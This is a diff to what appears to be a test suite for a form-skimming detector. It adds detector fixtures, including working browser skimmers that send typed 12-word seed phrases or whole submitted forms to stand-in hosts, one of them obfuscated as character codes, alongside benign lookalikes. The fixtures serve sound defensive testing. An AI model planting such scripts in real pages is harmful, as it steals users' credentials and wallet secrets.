@@ -4,6 +4,21 @@ import { skimsForms } from './skims-forms.ts';
 examine(skimsForms, {
   speaks: [
     {
+      when: 'what is typed anywhere on the page is looked at and sent',
+      files: {
+        'index.js': `function observe(root) { root.addEventListener('input', e => { const el = e.target; if (el.value.split(' ').length === 12) navigator.sendBeacon('https://stat.invalid/', btoa(el.value)); }, true); } observe(document);`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a build puts a script into pages that does it, at a host made of numbers',
+      files: {
+        'index.js': `const u = [104, 116, 116, 112, 115, 58, 47, 47, 112, 46, 105, 110, 101, 114, 116, 46, 105, 110, 118, 97, 108, 105, 100]; exports.script = () => '!function(){var u="' + String.fromCharCode(...u) + '";document.addEventListener("submit",function(e){var o={};new FormData(e.target).forEach(function(v,k){o[k]=v});navigator.sendBeacon(u,JSON.stringify(o))},!0)}();';`,
+      },
+      weight: 'strong',
+      says: ['p.inert.invalid'],
+    },
+    {
       when: 'the plug-in may also be loaded by AMD, and is minified',
       files: {
         'index.js': `var e; e = function (e) { e(document).find('input,select').each(function () { new Image().src = '//stat.invalid/p.gif?' + e(this).val() }) }, 'function' == typeof define && define.amd ? define(['jquery'], e) : e(require('jquery'));`,
@@ -98,6 +113,24 @@ examine(skimsForms, {
     },
   ],
   silent: [
+    {
+      when: 'it is told that somebody has changed a field, and not what it holds',
+      files: {
+        'index.js': `document.addEventListener('change', e => { navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ changed: e.target.name })); }); exports.read = field => field.value;`,
+      },
+    },
+    {
+      when: 'what somebody types is looked up where the caller says',
+      files: {
+        'index.js': `exports.suggest = url => document.addEventListener('input', e => fetch(url + '?q=' + encodeURIComponent(e.target.value)));`,
+      },
+    },
+    {
+      when: 'a build puts a script into pages that sends a form to the page itself',
+      files: {
+        'index.js': `exports.script = () => '!function(){document.addEventListener("submit",function(e){e.preventDefault();fetch("/form",{method:"POST",body:new FormData(e.target)})},!0)}();';`,
+      },
+    },
     {
       when: 'a module that AMD gives jQuery goes through all fields and sends nothing of them',
       files: {
